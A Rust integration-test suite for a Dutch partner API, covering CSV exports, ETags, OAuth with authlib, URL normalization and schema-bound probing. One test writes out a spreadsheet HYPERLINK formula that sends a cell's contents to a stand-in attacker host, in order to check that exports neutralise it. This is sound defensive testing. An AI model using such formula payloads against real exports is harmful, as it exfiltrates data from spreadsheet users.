//! What partners' own tools trip on, through the real server: compressed CSV exports,
//! reading back by one's own id, URLs, the stats parameters as documented.

use std::io::Read;

use reqwest::StatusCode;
use serde_json::{Value, json};
use tests::{TestApp, both_backends};

async fn call(
    app: &TestApp,
    token: &str,
    method: reqwest::Method,
    path: &str,
    body: Option<Value>,
) -> (StatusCode, reqwest::header::HeaderMap, Value) {
    let mut request = app.client.request(method, app.url(path)).bearer_auth(token);
    if let Some(body) = body {
        request = request.json(&body);
    }
    let response = request.send().await.expect("a request");
    let (status, headers) = (response.status(), response.headers().clone());
    (
        status,
        headers,
        response.json().await.unwrap_or(Value::Null),
    )
}

both_backends!(
    async fn a_csv_export_of_several_pages_arrives_whole_under_gzip(backend) {
        let Some(app) = TestApp::spawn(backend).await else { return };
        let token = tests::token_for(&app, "provincie", "provincial_network", "read write:themes", &[]).await;
        let items: Vec<Value> = (0..620).map(|i| json!({"externalId": format!("t-{i}"), "slug": format!("thema-{i}"), "name": format!("Thema {i}")})).collect();
        let (status, _, result) = call(&app, &token, reqwest::Method::POST, "/api/v1/themes/bulk", Some(json!({"items": items}))).await;
        assert_eq!(status, StatusCode::OK, "{result}");
        for encoding in ["gzip", "identity"] {
            let response = app.client.get(app.url("/api/v1/themes")).bearer_auth(&token)
                .header("accept", "text/csv").header("accept-encoding", encoding).send().await.expect("csv");
            assert_eq!(response.status(), StatusCode::OK);
            let compressed = response.headers().get("content-encoding").map(|v| v.to_str().expect("ascii").to_owned());
            let bytes = response.bytes().await.expect("the whole body");
            let text = if compressed.as_deref() == Some("gzip") {
                let mut text = String::new();
                flate2::read::GzDecoder::new(&bytes[..]).read_to_string(&mut text).expect("gzip");
                text
            } else {
                assert_eq!(encoding, "identity");
                String::from_utf8(bytes.to_vec()).expect("UTF-8")
            };
            let mut reader = csv::Reader::from_reader(text.as_bytes());
            assert_eq!(reader.records().count(), 620, "{encoding}: every row, across two pages");
        }
    }
);

both_backends!(
    async fn assignment_stats_filter_by_education_level_and_group_by_region_level(backend) {
        let Some(app) = TestApp::spawn(backend).await else { return };
        api::service::seed::seed(&app.db, &api::service::Actor::system()).await.expect("seed");
        let token = tests::token_for(&app, "school", "education_platform", "read write:assignments", &[]).await;
        for (slug, levels) in [("mbo-opdracht", vec!["mbo"]), ("hbo-opdracht", vec!["bachelor"])] {
            let (status, _, body) = call(&app, &token, reqwest::Method::POST, "/api/v1/assignments",
                Some(json!({"title": slug, "regionCode": "GM0114", "status": "open", "levels": levels, "startsOn": "2026-02-01", "endsOn": "2026-06-30"}))).await;
            assert_eq!(status, StatusCode::CREATED, "{body}");
        }
        let (status, _, stats) = call(&app, &token, reqwest::Method::GET, "/api/v1/stats/assignments?groupBy=region&regionLevel=province&level=bachelor", None).await;
        assert_eq!(status, StatusCode::OK, "{stats}");
        let groups = stats["groups"].as_array().expect("groups");
        assert_eq!(groups.len(), 1, "{stats}");
        assert_eq!((groups[0]["key"].as_str(), groups[0]["count"].as_i64()), (Some("PV22"), Some(1)), "{stats}");
        // What the document offers is what works: no theme grouping for assignments.
        let document: Value = app.client.get(app.url("/api/v1/openapi.json")).send().await.expect("document").json().await.expect("json");
        let parameters = document["paths"]["/stats/assignments"]["get"]["parameters"].as_array().expect("parameters").clone();
        // Inline parameters, and the shared ones by reference (If-None-Match).
        let names: Vec<&str> = parameters.iter()
            .map(|p| p["name"].as_str().or_else(|| p["$ref"].as_str()?.rsplit('/').next()).expect("name"))
            .collect();
        let mut unique = names.clone();
        unique.sort_unstable();
        unique.dedup();
        assert_eq!(unique.len(), names.len(), "each parameter once: {names:?}");
        let group_by = parameters.iter().find(|p| p["name"] == "groupBy").expect("groupBy");
        let schema = &group_by["schema"];
        let reference = schema["$ref"].as_str().map(|r| r.rsplit('/').next().expect("name").to_owned());
        let values = match reference {
            Some(name) => document["components"]["schemas"][name]["enum"].clone(),
            None => schema["enum"].clone(),
        };
        assert_eq!(values, json!(["region", "year"]), "{group_by}");
        let (status, _, _) = call(&app, &token, reqwest::Method::GET, "/api/v1/stats/assignments?groupBy=theme", None).await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
    }
);

both_backends!(
    async fn a_partner_reads_back_what_it_pushed_by_its_own_id(backend) {
        let Some(app) = TestApp::spawn(backend).await else { return };
        let province = tests::token_for(&app, "provincie", "provincial_network", "read write:themes write:networks", &[]).await;
        let other = tests::token_for(&app, "gemeente", "municipality", "read write:themes", &[]).await;
        let (status, _, theme) = call(&app, &province, reqwest::Method::PUT, "/api/v1/themes/external/thema-7", Some(json!({"slug": "voeding", "name": "Voeding"}))).await;
        assert_eq!(status, StatusCode::CREATED, "{theme}");
        let (status, headers, read) = call(&app, &province, reqwest::Method::GET, "/api/v1/themes/external/thema-7", None).await;
        assert_eq!(status, StatusCode::OK, "{read}");
        assert_eq!((read["id"].clone(), read["externalId"].clone()), (theme["id"].clone(), json!("thema-7")));
        let etag = headers["etag"].to_str().expect("ascii").to_owned();
        let unchanged = app.client.get(app.url("/api/v1/themes/external/thema-7")).bearer_auth(&province).header("if-none-match", &etag).send().await.expect("get");
        assert_eq!(unchanged.status(), StatusCode::NOT_MODIFIED);
        // Another partner's externalIds are its own: the same one names nothing of theirs.
        let (status, _, _) = call(&app, &other, reqwest::Method::GET, "/api/v1/themes/external/thema-7", None).await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        // Sub-collections too, under their parent.
        let (status, _, network) = call(&app, &province, reqwest::Method::POST, "/api/v1/networks", Some(json!({"slug": "legro", "name": "LEGrO", "kind": "learning_network", "status": "active"}))).await;
        assert_eq!(status, StatusCode::CREATED, "{network}");
        let goals = format!("/api/v1/networks/{}/goals/external/doel-1", network["id"].as_str().expect("id"));
        let (status, _, goal) = call(&app, &province, reqwest::Method::PUT, &goals, Some(json!({"title": "Minder roken", "status": "planned", "position": 1}))).await;
        assert_eq!(status, StatusCode::CREATED, "{goal}");
        let (status, _, read) = call(&app, &province, reqwest::Method::GET, &goals, None).await;
        assert_eq!((status, read["id"].clone()), (StatusCode::OK, goal["id"].clone()));
        // A deleted row is gone by its externalId too.
        let path = format!("/api/v1/themes/{}", theme["id"].as_str().expect("id"));
        let (status, _, _) = call(&app, &province, reqwest::Method::DELETE, &path, None).await;
        assert_eq!(status, StatusCode::NO_CONTENT);
        let (status, _, _) = call(&app, &province, reqwest::Method::GET, "/api/v1/themes/external/thema-7", None).await;
        assert_eq!(status, StatusCode::NOT_FOUND);
    }
);

both_backends!(
    async fn urls_need_a_host_and_are_stored_normalized(backend) {
        let Some(app) = TestApp::spawn(backend).await else { return };
        let token = tests::token_for(&app, "provincie", "provincial_network", "read write:practice-examples webhooks:manage changes:read", &[]).await;
        for bad in ["http:///x", "https:///", "http://", "http:/x", "http:\\\\\\\\example.org\\\\x"] {
            let (status, _, problem) = call(&app, &token, reqwest::Method::POST, "/api/v1/practice-examples",
                Some(json!({"title": "Met link", "links": [{"url": bad, "title": "x"}]}))).await;
            assert_eq!(status, StatusCode::BAD_REQUEST, "{bad}: {problem}");
            assert_eq!(problem["invalidParams"][0]["name"], "links[0].url", "{bad}");
        }
        let (status, _, created) = call(&app, &token, reqwest::Method::POST, "/api/v1/practice-examples",
            Some(json!({"title": "Met link", "links": [{"url": "HTTPS://WWW.Example.ORG:443", "title": "x"}]}))).await;
        assert_eq!(status, StatusCode::CREATED, "{created}");
        assert_eq!(created["links"][0]["url"], "https://www.example.org/");
        let (status, _, hook) = call(&app, &token, reqwest::Method::POST, "/api/v1/webhooks",
            Some(json!({"url": "HTTP://127.0.0.1:80/Hook", "secret": "een-lang-gedeeld-geheim"}))).await;
        assert_eq!(status, StatusCode::CREATED, "{hook}");
        assert_eq!(hook["url"], "http://127.0.0.1/Hook");
    }
);

/// Whether Python has `module`; when not, a failure if tools are required (`.ci/run`).
pub fn python_module(module: &str) -> bool {
    let found = std::process::Command::new("python3")
        .args(["-c", &format!("import {module}")])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !found {
        assert!(
            std::env::var_os("LEERNET_REQUIRE_TOOLS").is_none(),
            "the Python module {module} is not installed (.ci/run installs it)"
        );
        eprintln!(
            "NOTICE: the Python module {module} is not installed: this test did not run (see .ci/run)"
        );
    }
    found
}

/// authlib, as a partner would use it: validate the RFC 8414 metadata, get a token by
/// client credentials, and meet a missing scope as RFC 6750 describes it.
const AUTHLIB_CLIENT: &str = r#"
import sys, requests
from authlib.oauth2.rfc8414 import AuthorizationServerMetadata
from authlib.integrations.requests_client import OAuth2Session
base, client_id, secret = sys.argv[1], sys.argv[2], sys.argv[3]
metadata = AuthorizationServerMetadata(requests.get(base + "/.well-known/oauth-authorization-server").json())
metadata.validate()
session = OAuth2Session(client_id, secret, scope="read")
token = session.fetch_token(metadata["token_endpoint"], grant_type="client_credentials")
assert token["token_type"] == "Bearer", token
assert session.get(base + "/api/v1/themes").status_code == 200
denied = session.get(base + "/api/v1/audit")
assert denied.status_code == 403, denied.status_code
challenge = denied.headers["WWW-Authenticate"]
assert 'error="insufficient_scope"' in challenge and 'scope="admin"' in challenge, challenge
print("ok")
"#;

both_backends!(
    async fn authlib_validates_the_metadata_and_meets_a_missing_scope_as_rfc_6750_says(backend) {
        let Some(app) = TestApp::spawn(backend).await else { return };
        let credentials = api::service::partners::create(&app.db, api::service::partners::NewPartner {
            name: "beheer".to_owned(), kind: "admin".to_owned(),
            scopes: vec!["read".to_owned(), "admin".to_owned()], unconfined: true, ..Default::default()
        }).await.expect("a partner");
        // RFC 6749 §5.2: what the client sent comes back only as printable ASCII.
        let response = app.client.post(app.url("/oauth/token")).basic_auth(&credentials.client_id, Some(&credentials.client_secret))
            .header("content-type", "application/x-www-form-urlencoded").body("grant_type=client_credentials&scope=r%C3%A9ad%22%5C").send().await.expect("token");
        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
        let body: Value = response.json().await.expect("json");
        let description = body["error_description"].as_str().expect("a description");
        assert!(description.chars().all(|c| matches!(c, '\x20'..='\x21' | '\x23'..='\x5b' | '\x5d'..='\x7e')), "{description}");
        // A body past the limit is an OAuth error as well.
        let huge = format!("grant_type=client_credentials&x={}", "a".repeat(2 * 1024 * 1024));
        let response = app.client.post(app.url("/oauth/token")).header("content-type", "application/x-www-form-urlencoded").body(huge).send().await.expect("token");
        assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
        assert_eq!(response.json::<Value>().await.expect("an OAuth error")["error"], "invalid_request");
        let metadata: Value = app.client.get(app.url("/.well-known/oauth-authorization-server")).send().await.expect("metadata").json().await.expect("json");
        assert_eq!(metadata["response_types_supported"], json!(["none"]));
        assert!(metadata.get("token_endpoint_auth_signing_alg_values_supported").is_none(), "no method that needs it is offered");

        if !python_module("authlib") {
            return;
        }
        let (base, id, secret) = (app.url(""), credentials.client_id.clone(), credentials.client_secret.clone());
        let output = tokio::task::spawn_blocking(move || {
            std::process::Command::new("python3").args(["-c", AUTHLIB_CLIENT, &base, &id, &secret]).output()
        }).await.expect("the run").expect("python3");
        assert!(output.status.success(), "authlib: {}\n{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    }
);

both_backends!(
    async fn each_coding_has_its_own_strong_etag_and_if_match_compares_strongly(backend) {
        let Some(app) = TestApp::spawn(backend).await else { return };
        let token = tests::token_for(&app, "provincie", "provincial_network", "read write:themes", &[]).await;
        let (status, _, theme) = call(&app, &token, reqwest::Method::POST, "/api/v1/themes", Some(json!({"slug": "voeding", "name": "Voeding in de wijk, voor jong en oud"}))).await;
        assert_eq!(status, StatusCode::CREATED);
        let path = format!("/api/v1/themes/{}", theme["id"].as_str().expect("id"));
        let get = |encoding: &'static str, condition: Option<(&'static str, String)>| {
            let mut request = app.client.get(app.url(&path)).bearer_auth(&token).header("accept-encoding", encoding);
            if let Some((name, value)) = condition {
                request = request.header(name, value);
            }
            request.send()
        };
        let identity = get("identity", None).await.expect("get");
        assert_eq!(identity.headers()["etag"], "\"1\"");
        let gzip = get("gzip", None).await.expect("get");
        assert_eq!(gzip.headers()["content-encoding"], "gzip");
        assert_eq!(gzip.headers()["etag"], "\"1-gzip\"");
        assert_eq!(gzip.headers().get_all("vary").iter().count(), 1, "one Vary");
        let br = get("br", None).await.expect("get");
        assert_eq!(br.headers()["etag"], "\"1-br\"");

        // If-None-Match compares weakly: each coding's tag, and a weak one, is version 1.
        for tag in ["\"1\"", "\"1-gzip\"", "\"1-br\"", "W/\"1\""] {
            let cached = get("gzip", Some(("if-none-match", tag.to_owned()))).await.expect("get");
            assert_eq!(cached.status(), StatusCode::NOT_MODIFIED, "{tag}");
            assert_eq!(cached.headers()["cache-control"], "private, no-cache", "the 304 carries what the 200 would");
            assert_eq!(cached.headers()["vary"], "accept-encoding");
            assert!(cached.headers().get("etag").is_some());
        }
        assert_eq!(get("gzip", Some(("if-none-match", "\"1-gzip\"".to_owned()))).await.expect("get").headers()["etag"], "\"1-gzip\"");

        // If-Match compares strongly: a weak tag never matches.
        let patch = |tag: &'static str, name: &'static str| {
            app.client.patch(app.url(&path)).bearer_auth(&token).header("if-match", tag)
                .header("content-type", "application/merge-patch+json").body(json!({"name": name}).to_string()).send()
        };
        let weak = patch("W/\"1\"", "Zwak").await.expect("patch");
        assert_eq!(weak.status(), StatusCode::PRECONDITION_FAILED);
        // Strong comparison is of the tag as sent: "01" is not "1".
        for other in ["\"01\"", "\"+1\"", "\"1-deflate\""] {
            assert_eq!(patch(other, "Anders").await.expect("patch").status(), StatusCode::PRECONDITION_FAILED, "{other}");
        }
        assert_eq!(patch("1", "Geen tag").await.expect("patch").status(), StatusCode::BAD_REQUEST, "not an entity tag at all");
        let (_, _, unchanged) = call(&app, &token, reqwest::Method::GET, &path, None).await;
        assert_eq!((unchanged["name"].as_str(), unchanged["version"].as_i64()), (Some("Voeding in de wijk, voor jong en oud"), Some(1)));
        let gzip_tag = patch("\"1-gzip\"", "Gezonde voeding").await.expect("patch");
        assert_eq!(gzip_tag.status(), StatusCode::OK, "a coding's tag names its version");
        // If-Match on a read is evaluated too.
        assert_eq!(get("identity", Some(("if-match", "\"1\"".to_owned()))).await.expect("get").status(), StatusCode::PRECONDITION_FAILED);
        assert_eq!(get("identity", Some(("if-match", "\"2\"".to_owned()))).await.expect("get").status(), StatusCode::OK);
    }
);

/// The schema a `$ref` names.
fn schema_of<'a>(document: &'a Value, reference: &str) -> &'a Value {
    &document["components"]["schemas"][reference.rsplit('/').next().expect("a name")]
}

both_backends!(
    async fn every_input_schema_requires_exactly_what_the_service_requires(backend) {
        let Some(app) = TestApp::spawn(backend).await else { return };
        let token = tests::token_for(&app, "beheer", "admin", "admin", &[]).await;
        let document: Value = app.client.get(app.url("/api/v1/openapi.json")).send().await.expect("document").json().await.expect("json");
        let base = document["servers"][0]["url"].as_str().expect("a server").to_owned();
        let mut checked = 0;
        let mut mismatches = Vec::new();
        for (path, item) in document["paths"].as_object().expect("paths") {
            // The top-level creates (sub-collections take their parent from the path).
            let Some(reference) = item["post"]["requestBody"]["content"]["application/json"]["schema"]["$ref"].as_str() else { continue };
            if path.contains('{') || path.ends_with("/bulk") || !reference.ends_with("Input") || path == "/webhooks" {
                continue;
            }
            let schema = schema_of(&document, reference);
            let mut documented: Vec<String> = schema["required"].as_array().map(|r| r.iter().map(|n| n.as_str().expect("a name").to_owned()).collect()).unwrap_or_default();
            documented.sort();
            // What the service says is missing from an empty body.
            let (status, _, problem) = call(&app, &token, reqwest::Method::POST, &format!("{base}{path}"), Some(json!({}))).await;
            let mut enforced: Vec<String> = if status == StatusCode::BAD_REQUEST {
                problem["invalidParams"].as_array().expect("params").iter()
                    .filter(|p| p["reason"].as_str().is_some_and(|r| r.starts_with("is required")))
                    .map(|p| p["name"].as_str().expect("a name").to_owned())
                    .collect()
            } else {
                Vec::new()
            };
            enforced.sort();
            enforced.dedup();
            if documented != enforced {
                mismatches.push(format!("{path}: the schema requires {documented:?}, the service {enforced:?}"));
            }
            for name in &documented {
                let property = &schema["properties"][name];
                let nullable = property["type"].as_array().is_some_and(|t| t.iter().any(|t| t == "null"))
                    || property["oneOf"].as_array().is_some_and(|o| o.iter().any(|t| t["type"] == "null"));
                if nullable {
                    mismatches.push(format!("{path}: {name} is required but may be null"));
                }
            }
            checked += 1;
        }
        assert!(checked >= 9, "{checked} creates checked");
        assert!(mismatches.is_empty(), "{}", mismatches.join("\n"));
    }
);

both_backends!(
    async fn a_csv_export_never_hands_a_spreadsheet_a_formula(backend) {
        let Some(app) = TestApp::spawn(backend).await else { return };
        let token = tests::token_for(&app, "provincie", "provincial_network", "read write:practice-examples", &[]).await;
        let title = "=HYPERLINK(\"http://aanvaller.example/?x=\"&A1,\"Klik\")";
        let (status, _, _) = call(&app, &token, reqwest::Method::POST, "/api/v1/practice-examples", Some(json!({"title": title, "summary": "-1+2", "status": "published"}))).await;
        assert_eq!(status, StatusCode::CREATED);
        let text = app.client.get(app.url("/api/v1/practice-examples")).bearer_auth(&token).header("accept", "text/csv")
            .send().await.expect("csv").text().await.expect("text");
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let headers = reader.headers().expect("a header").clone();
        let row = reader.records().next().expect("a row").expect("a record");
        let cell = |name: &str| row[headers.iter().position(|h| h == name).expect(name)].to_owned();
        assert_eq!(cell("title"), format!("'{title}"), "the formula is text");
        assert_eq!(cell("summary"), "'-1+2");
        assert_eq!(cell("version"), "1", "numbers stay numbers");
    }
);

/// A property's schema as its values must be: `null` taken out of a `oneOf`, a `$ref`
/// followed.
fn value_schema(document: &Value, property: &Value) -> Value {
    let mut schema = property.clone();
    if let Some(options) = property["oneOf"].as_array()
        && let Some(other) = options.iter().find(|o| o["type"] != "null")
    {
        schema = other.clone();
    }
    if let Some(reference) = schema["$ref"].as_str() {
        schema = schema_of(document, reference).clone();
    }
    schema
}

/// The JSON type of a schema's values (`string`, `integer`, ...), `null` aside.
fn type_of(schema: &Value) -> String {
    match &schema["type"] {
        Value::String(t) => t.clone(),
        Value::Array(types) => types
            .iter()
            .filter_map(Value::as_str)
            .find(|t| *t != "null")
            .unwrap_or_default()
            .to_owned(),
        _ if schema.get("enum").is_some() => "string".to_owned(),
        _ => String::new(),
    }
}

/// Whether `text` satisfies a schema's `pattern` and length bounds.
fn fits(schema: &Value, text: &str) -> bool {
    let n = text.chars().count() as u64;
    schema["pattern"]
        .as_str()
        .is_none_or(|p| regex::Regex::new(p).expect("a pattern").is_match(text))
        && schema["minLength"].as_u64().is_none_or(|min| n >= min)
        && schema["maxLength"].as_u64().is_none_or(|max| n <= max)
}

/// A string of exactly `n` characters that the schema's pattern and format allow.
fn string_of(schema: &Value, n: u64) -> Option<String> {
    let n = n as usize;
    let uri = schema["format"] == "uri";
    let mut candidates = vec!["a".repeat(n)];
    if uri && n >= 20 {
        candidates = vec![format!("https://example.org/{}", "a".repeat(n - 20))];
    }
    // Subtags as a language tag has them: `ab-a-a-...`.
    if n >= 2 {
        candidates.push(if n.is_multiple_of(2) {
            format!("ab{}", "-a".repeat((n - 2) / 2))
        } else {
            format!("abc{}", "-a".repeat((n - 3) / 2))
        });
    }
    candidates.into_iter().find(|c| {
        c.chars().count() == n
            && schema["pattern"]
                .as_str()
                .is_none_or(|p| regex::Regex::new(p).expect("a pattern").is_match(c))
    })
}

/// A value the schema allows: its example's, else one made up from its type and bounds.
fn valid_value(document: &Value, property: &Value, example: Option<&Value>) -> Value {
    let schema = value_schema(document, property);
    if let Some(example) = example.filter(|e| !e.is_null()) {
        return example.clone();
    }
    if let Some(first) = schema["enum"].as_array().and_then(|v| v.first()) {
        return first.clone();
    }
    match type_of(&schema).as_str() {
        "string" => match schema["format"].as_str() {
            Some("uuid") => json!(uuid::Uuid::new_v4().to_string()),
            Some("date") => json!("2024-05-01"),
            Some("uri") => json!("https://example.org/"),
            _ => ["Probe", "probe", "nl"]
                .into_iter()
                .find(|c| fits(&schema, c))
                .map_or(Value::Null, |c| json!(c)),
        },
        "integer" => schema["minimum"].as_i64().map_or(json!(1), |m| json!(m)),
        "number" => schema["minimum"].as_f64().map_or(json!(1.0), |m| json!(m)),
        "boolean" => json!(false),
        "array" => json!([]),
        "object" => {
            let mut object = serde_json::Map::new();
            for name in schema["required"]
                .as_array()
                .into_iter()
                .flatten()
                .filter_map(Value::as_str)
            {
                object.insert(
                    name.to_owned(),
                    valid_value(document, &schema["properties"][name], None),
                );
            }
            Value::Object(object)
        }
        _ => Value::Null,
    }
}

/// One request of the comparison: `sets` applied to the valid body (JSON pointer, value),
/// and whether the last value lies beyond a bound the schema declares for `field`.
struct Probe {
    field: String,
    what: String,
    beyond: bool,
    sets: Vec<(String, Value)>,
}

/// The probes of one property: each declared bound, just beyond it and at it.
#[expect(
    clippy::too_many_arguments,
    reason = "where the property is, and what it is"
)]
fn probes_of(
    document: &Value,
    field: &str,
    pointer: &str,
    property: &Value,
    example: Option<&Value>,
    setup: &[(String, Value)],
    unbounded: &mut Vec<String>,
    out: &mut Vec<Probe>,
) {
    let schema = value_schema(document, property);
    let mut add = |beyond: bool, what: String, value: Value| {
        let mut sets = setup.to_vec();
        sets.push((pointer.to_owned(), value));
        out.push(Probe {
            field: field.to_owned(),
            what,
            beyond,
            sets,
        });
    };
    if let Some(values) = schema["enum"].as_array() {
        add(
            true,
            "a value not in enum".to_owned(),
            json!("not-one-of-these"),
        );
        for value in values {
            add(false, format!("enum value {value}"), value.clone());
        }
        return;
    }
    match type_of(&schema).as_str() {
        "string" => {
            let (min, max) = (schema["minLength"].as_u64(), schema["maxLength"].as_u64());
            if let Some(max) = max {
                let long =
                    string_of(&schema, max + 1).unwrap_or_else(|| "a".repeat(max as usize + 1));
                add(true, format!("maxLength {max} + 1"), json!(long));
                if let Some(at) = string_of(&schema, max) {
                    add(false, format!("maxLength {max}"), json!(at));
                }
            }
            if let Some(min) = min.filter(|m| *m > 0) {
                add(
                    true,
                    format!("minLength {min} - 1"),
                    json!("a".repeat(min as usize - 1)),
                );
                if let Some(at) = string_of(&schema, min) {
                    add(false, format!("minLength {min}"), json!(at));
                }
            }
            if let Some(pattern) = schema["pattern"].as_str() {
                let unlike = ["NOT VALID!", "Not-Valid", "-"].into_iter().find(|c| {
                    !regex::Regex::new(pattern).expect("a pattern").is_match(c)
                        && min.is_none_or(|m| c.len() as u64 >= m)
                        && max.is_none_or(|m| c.len() as u64 <= m)
                });
                if let Some(unlike) = unlike {
                    add(true, format!("not matching {pattern}"), json!(unlike));
                }
                let like = example
                    .and_then(Value::as_str)
                    .map(str::to_owned)
                    .into_iter()
                    .chain(["probe", "nl", "https://example.org/"].map(str::to_owned))
                    .find(|c| fits(&schema, c));
                match like {
                    Some(like) => add(false, format!("matching {pattern}"), json!(like)),
                    None => unbounded.push(format!("{field}: no value matching {pattern} to send")),
                }
            }
            match schema["format"].as_str() {
                Some("uri") => {
                    add(true, "not a URI".to_owned(), json!("not a uri"));
                    add(false, "a URI".to_owned(), json!("https://example.org/"));
                }
                Some("date") => {
                    add(true, "not a date".to_owned(), json!("1 mei 2024"));
                    add(false, "a date".to_owned(), json!("2024-05-01"));
                }
                Some("uuid") => add(true, "not a UUID".to_owned(), json!("not-a-uuid")),
                _ => {}
            }
            if max.is_none() && !matches!(schema["format"].as_str(), Some("uuid" | "date")) {
                unbounded.push(format!("{field}: a string without maxLength"));
            }
        }
        "integer" | "number" => {
            let integer = type_of(&schema) == "integer";
            let number = |n: f64| if integer { json!(n as i64) } else { json!(n) };
            match (schema["minimum"].as_f64(), schema["maximum"].as_f64()) {
                (Some(min), Some(max)) => {
                    add(true, format!("minimum {min} - 1"), number(min - 1.0));
                    add(false, format!("minimum {min}"), number(min));
                    add(true, format!("maximum {max} + 1"), number(max + 1.0));
                    add(false, format!("maximum {max}"), number(max));
                }
                _ => unbounded.push(format!("{field}: a number without minimum and maximum")),
            }
        }
        "array" => {
            let items = &property["items"];
            let item_schema = value_schema(document, items);
            let template = example
                .and_then(|e| e.as_array())
                .and_then(|e| e.first())
                .cloned()
                .unwrap_or_else(|| valid_value(document, items, None));
            let Some(max) = schema["maxItems"].as_u64() else {
                unbounded.push(format!("{field}: a list without maxItems"));
                return;
            };
            add(
                true,
                format!("maxItems {max} + 1"),
                json!(vec![template.clone(); max as usize + 1]),
            );
            add(
                false,
                format!("maxItems {max}"),
                json!(vec![template.clone(); max as usize]),
            );
            // Each item's bounds, as the only item of the list.
            let mut setup = setup.to_vec();
            setup.push((pointer.to_owned(), json!([template.clone()])));
            if type_of(&item_schema) == "object" {
                for (name, property) in item_schema["properties"].as_object().into_iter().flatten()
                {
                    probes_of(
                        document,
                        &format!("{field}[0].{name}"),
                        &format!("{pointer}/0/{name}"),
                        property,
                        template.get(name),
                        &setup,
                        unbounded,
                        out,
                    );
                }
            } else {
                probes_of(
                    document,
                    &format!("{field}[0]"),
                    &format!("{pointer}/0"),
                    items,
                    Some(&template),
                    &setup,
                    unbounded,
                    out,
                );
            }
        }
        _ => {}
    }
}

/// Sets `value` at the JSON `pointer` of `body`.
fn set_at(body: &mut Value, pointer: &str, value: Value) {
    let (parent, key) = pointer.rsplit_once('/').expect("a pointer");
    match body.pointer_mut(parent).expect("the parent exists") {
        Value::Object(object) => {
            object.insert(key.to_owned(), value);
        }
        Value::Array(items) => items[key.parse::<usize>().expect("an index")] = value,
        other => panic!("cannot set {pointer} in {other}"),
    }
}

/// Problems as a message shows them: a reason echoes the value, which may be 100,000
/// characters long.
fn shown<'a>(problems: impl IntoIterator<Item = &'a Value>) -> String {
    problems
        .into_iter()
        .map(|p| {
            let reason: String = p["reason"]
                .as_str()
                .unwrap_or_default()
                .chars()
                .take(100)
                .collect();
            format!("{}: {reason}", p["name"].as_str().unwrap_or_default())
        })
        .collect::<Vec<_>>()
        .join("; ")
}

/// A problem that says a referenced row does not exist: what the value names is not there,
/// which no schema can say.
fn names_a_missing_row(problem: &Value) -> bool {
    problem["reason"]
        .as_str()
        .is_some_and(|r| r.starts_with("no ") && r.ends_with(" exists"))
}

both_backends!(
    async fn every_declared_bound_of_an_input_is_the_services_bound(backend) {
        let Some(app) = TestApp::spawn(backend).await else { return };
        let token = tests::token_for(&app, "beheer", "admin", "admin", &[]).await;
        let document: Value = app.client.get(app.url("/api/v1/openapi.json")).send().await.expect("document").json().await.expect("json");
        let base_url = document["servers"][0]["url"].as_str().expect("a server").to_owned();
        let post = async |path: &str, body: &Value| {
            let (status, headers, problem) = call(&app, &token, reqwest::Method::POST, &format!("{base_url}{path}"), Some(body.clone())).await;
            // What a probe creates is deleted again, so that every probe meets the same rows.
            if status == StatusCode::CREATED {
                let location = headers.get("location").and_then(|l| l.to_str().ok()).expect("a Location").to_owned();
                let (deleted, _, _) = call(&app, &token, reqwest::Method::DELETE, &location, None).await;
                assert_eq!(deleted, StatusCode::NO_CONTENT, "delete {location}");
            }
            (status, problem["invalidParams"].as_array().cloned().unwrap_or_default())
        };
        let (mut schemas, mut probed, mut accepted) = (0, 0, 0);
        let (mut mismatches, mut unbounded) = (Vec::new(), Vec::new());
        for (path, item) in document["paths"].as_object().expect("paths") {
            // The top-level creates, as the test of required fields walks them.
            let Some(reference) = item["post"]["requestBody"]["content"]["application/json"]["schema"]["$ref"].as_str() else { continue };
            if path.contains('{') || path.ends_with("/bulk") || !reference.ends_with("Input") || path == "/webhooks" {
                continue;
            }
            let schema = schema_of(&document, reference);
            let required: Vec<&str> = schema["required"].as_array().into_iter().flatten().filter_map(Value::as_str).collect();
            let example = schema.get("example");
            // A valid body of the required fields alone (as the example has them), so that
            // a probe meets no rule between fields that no schema states (`endYear` not
            // before `startYear`); a required reference to a row this database lacks is
            // named in every answer, and nothing else.
            let mut body = valid_value(&document, schema, example);
            body.as_object_mut().expect("an object").retain(|name, _| required.contains(&name.as_str()));
            let (status, problems) = post(path, &body).await;
            assert!(status == StatusCode::CREATED || (status == StatusCode::BAD_REQUEST && problems.iter().all(names_a_missing_row)),
                "{path}: {body} is no valid body: {status} {problems:?}");
            let mut probes = Vec::new();
            for (name, property) in schema["properties"].as_object().expect("properties") {
                probes_of(&document, name, &format!("/{name}"), property, example.and_then(|e| e.get(name)),
                    &[], &mut unbounded, &mut probes);
            }
            for probe in probes {
                let mut sent = body.clone();
                for (pointer, value) in &probe.sets {
                    set_at(&mut sent, pointer, value.clone());
                }
                let (status, problems) = post(path, &sent).await;
                let at_field: Vec<&Value> = problems.iter().filter(|p| p["name"] == probe.field.as_str()).collect();
                if probe.beyond {
                    if status != StatusCode::BAD_REQUEST || at_field.iter().all(|p| names_a_missing_row(p)) {
                        mismatches.push(format!("{path} {}: {} was {status}, not refused at {}: {}", probe.field, probe.what, probe.field, shown(&problems)));
                    }
                } else {
                    if status == StatusCode::CREATED {
                        accepted += 1;
                    }
                    if at_field.iter().any(|p| !names_a_missing_row(p)) {
                        mismatches.push(format!("{path} {}: {} was refused at {}: {}", probe.field, probe.what, probe.field, shown(at_field)));
                    }
                }
                probed += 1;
            }
            schemas += 1;
        }
        assert!(schemas >= 9, "{schemas} creates compared");
        assert!(probed >= 300, "{probed} probes");
        assert!(unbounded.is_empty(), "fields without a declared bound:\n{}", unbounded.join("\n"));
        assert!(mismatches.is_empty(), "{} of {probed} probes disagree with the schema:\n{}", mismatches.len(), mismatches.join("\n"));
        eprintln!("{schemas} creates, {probed} probes, {accepted} at a bound created");
        assert!(accepted >= 100, "only {accepted} probes at a bound were created");
    }
);
